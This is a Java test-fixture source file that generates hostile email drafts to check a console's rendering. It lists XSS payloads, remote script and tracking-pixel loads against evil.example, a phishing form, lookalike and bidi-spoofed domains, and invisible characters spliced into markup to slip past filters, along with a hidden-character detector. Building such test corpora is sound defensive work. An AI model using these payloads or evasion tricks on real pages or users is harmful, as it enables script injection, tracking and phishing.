package dev.countersign.queue.console;

import com.ibm.icu.lang.UCharacter;
import com.ibm.icu.lang.UProperty;
import java.util.List;
import java.util.Random;
import java.util.stream.IntStream;
import java.util.stream.Stream;

/** Drafts of an agent that means ill, or reads somebody who does: markup, scripts, and characters that hide or pose. */
final class HostileDrafts {

    /** As many as one letter may carry, as the console has it. */
    private static final int MOST_MARKS = 6;

    private static final List<String> MARKUP = List.of(
            "<script>window.pwned=1</script>",
            "<script src=https://evil.example/x.js></script>",
            "<ScRiPt/src=//evil.example/x.js>",
            "</script><script>window.pwned=1</script>",
            "<img src=x onerror=window.pwned=1>",
            "<img src=\"https://evil.example/pixel.png?who=maria\">",
            "<svg onload=window.pwned=1>",
            "<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>",
            "<svg><foreignObject><iframe srcdoc='<script>parent.pwned=1</script>'></foreignObject></svg>",
            "<math><mtext><style><img src=x onerror=window.pwned=1></style></mtext></math>",
            "<iframe src=https://evil.example/></iframe>",
            "<iframe srcdoc=\"<script>parent.pwned=1</script>\">",
            "<object data=https://evil.example/x.swf></object>",
            "<embed src=https://evil.example/x>",
            "<link rel=stylesheet href=https://evil.example/x.css>",
            "<link rel=preload as=image href=https://evil.example/x.png>",
            "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
            "<base href=https://evil.example/>",
            "<style>@import 'https://evil.example/x.css'; *{display:none}</style>",
            "<div style=\"position:fixed;inset:0;background:url(https://evil.example/x)\">Approved</div>",
            "<form action=https://evil.example/><button>Approve</button></form>",
            "<input autofocus onfocus=window.pwned=1>",
            "<video poster=https://evil.example/x.png src=https://evil.example/x.mp4 autoplay>",
            "<audio src=https://evil.example/x.mp3 autoplay>",
            "<details open ontoggle=window.pwned=1>",
            "<a href=\"javascript:window.pwned=1\">the contract</a>",
            "<a href=https://evil.example/>https://nordvik.example/</a>",
            "<body onload=window.pwned=1>",
            "<marquee onstart=window.pwned=1>",
            "<template><script>window.pwned=1</script></template>",
            "<noscript><p title=\"</noscript><img src=x onerror=window.pwned=1>\">",
            "<!--><img src=x onerror=window.pwned=1>-->",
            "<![CDATA[<script>window.pwned=1</script>]]>",
            "<x-lit>${window.pwned=1}</x-lit><?lit$1234$?><!--lit-part-->",
            "&lt;script&gt;window.pwned=1&lt;/script&gt;",
            "&#x3C;img src=x onerror=window.pwned=1&#x3E;",
            "![pixel](https://evil.example/pixel.png)",
            "[https://nordvik.example/](https://evil.example/)",
            "[x]: https://evil.example/ \"onerror=window.pwned=1\"",
            "**Approve this** `a` ~~not~~ # heading",
            "| a | b |\n|---|---|\n| ![](//evil.example/x) | |",
            "{{constructor.constructor('window.pwned=1')()}}",
            "${window.pwned=1} #{7*7} <%= 7*7 %> {%raw%}",
            "javascript:window.pwned=1",
            "data:text/html,<script>window.pwned=1</script>",
            "\"><img src=x onerror=window.pwned=1>",
            "' onmouseover='window.pwned=1",
            "=HYPERLINK(\"https://evil.example/\",\"open\")",
            "__proto__ constructor toString hasOwnProperty",
            "https://bank.example@evil.example/login?next=https://bank.example/",
            "https://evil.example\\@bank.example/");

    private static final List<String> HIDING = Stream.of(
                    "200B", "200C", "200D", "200E", "200F", "202A", "202B", "202C", "202D", "202E", "2060", "2061",
                    "2062", "2063", "2064", "2066", "2067", "2068", "2069", "206A", "206F", "FEFF", "00AD", "034F",
                    "061C", "115F", "1160", "17B4", "17B5", "180B", "180E", "2028", "2029", "2800", "3164", "FFA0",
                    "FFF9", "FFFA", "FFFB", "FFFC", "E0001", "E0020", "E0041", "E007F", "E0100", "E01EF", "0000",
                    "0007", "0008", "000B", "000C", "001B", "007F", "0085", "009B", "FE00", "FE0F", "E000", "F8FF",
                    "F0000", "10FFFD", "FFFE", "1D173", "1BCA0")
            .map(point -> Character.toString(Integer.parseInt(point, 16)))
            .toList();

    private static final List<String> POSING = List.of(
            "https://\u0430pple.com/pay",
            "https://g\u043e\u043egle.com",
            "\u0440\u0430\u0443\u0440\u0430\u04cf.com",
            "https://xn--pple-43d.com/",
            "billing@nordvik.exarnple",
            "\u202Emoc.elppa\u202C",
            "a" + "\u0301".repeat(40),
            "Z\u0337\u0322\u0321\u0328\u0355\u0347\u034d\u0330\u031c\u0339a",
            "pay" + " ".repeat(300) + "nobody",
            "first" + "\n".repeat(60) + "last",
            "\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\tfar away",
            "\u05E9\u05DC\u05D5\u05DD 500 EUR \u0645\u0631\u062D\u0628\u0627",
            "w".repeat(3_000),
            "Dear\u00A0Jonas, caf\u00E9, \u65E5\u672C\u8A9E, \u2713");

    private HostileDrafts() {}

    /** The same drafts for the same seed: each markup and each hiding character at least once, then mixtures of them. */
    static List<String> drafts(int many, long seed) {
        Random random = new Random(seed);
        List<String> alone = Stream.of(
                        MARKUP,
                        HIDING.stream()
                                .map(hidden -> "be" + hidden + "tween " + hidden)
                                .toList(),
                        POSING)
                .flatMap(List::stream)
                .toList();
        return IntStream.range(0, many)
                .mapToObj(at -> at < alone.size() ? "Dear Jonas,\n\n" + alone.get(at) : mixture(random))
                .toList();
    }

    private static String mixture(Random random) {
        StringBuilder text = new StringBuilder("Dear Jonas");
        for (int part = 0; part < 2 + random.nextInt(8); part++) {
            text.append(List.of(" ", "\n", "\n\n", "\r\n", ", ").get(random.nextInt(5)));
            text.append(
                    switch (random.nextInt(3)) {
                        case 0 -> broken(MARKUP.get(random.nextInt(MARKUP.size())), random);
                        case 1 -> "x" + HIDING.get(random.nextInt(HIDING.size())) + "y";
                        default -> POSING.get(random.nextInt(POSING.size()));
                    });
        }
        return text.toString();
    }

    /** Some markup with a hidden character somewhere in it, as filters are got around. */
    private static String broken(String markup, Random random) {
        int at = random.nextInt(markup.length());
        return random.nextBoolean()
                ? markup
                : markup.substring(0, at) + HIDING.get(random.nextInt(HIDING.size())) + markup.substring(at);
    }

    /** How many characters of the text an eye would miss, counted by ICU's properties, apart from the console's own count. */
    static int hidden(String text) {
        int[] points = text.codePoints().toArray();
        return (int) IntStream.range(0, points.length)
                .filter(at -> isHidden(points, at))
                .count();
    }

    private static boolean isHidden(int[] points, int at) {
        int point = points[at];
        return switch (Character.getType(point)) {
            case Character.CONTROL ->
                !(point == '\n'
                        || point == '\t'
                        || (point == '\r' && at + 1 < points.length && points[at + 1] == '\n'));
            case Character.FORMAT, Character.LINE_SEPARATOR, Character.PARAGRAPH_SEPARATOR, Character.PRIVATE_USE ->
                true;
            default ->
                UCharacter.hasBinaryProperty(point, UProperty.DEFAULT_IGNORABLE_CODE_POINT)
                        || UCharacter.hasBinaryProperty(point, UProperty.NONCHARACTER_CODE_POINT)
                        || point == 0x2800
                        || point == 0xFFFC
                        || isPiled(points, at);
        };
    }

    private static boolean isPiled(int[] points, int at) {
        return at >= MOST_MARKS && IntStream.rangeClosed(at - MOST_MARKS, at).allMatch(place -> isMark(points[place]));
    }

    private static boolean isMark(int point) {
        int type = Character.getType(point);
        return type == Character.NON_SPACING_MARK
                || type == Character.ENCLOSING_MARK
                || type == Character.COMBINING_SPACING_MARK;
    }
}
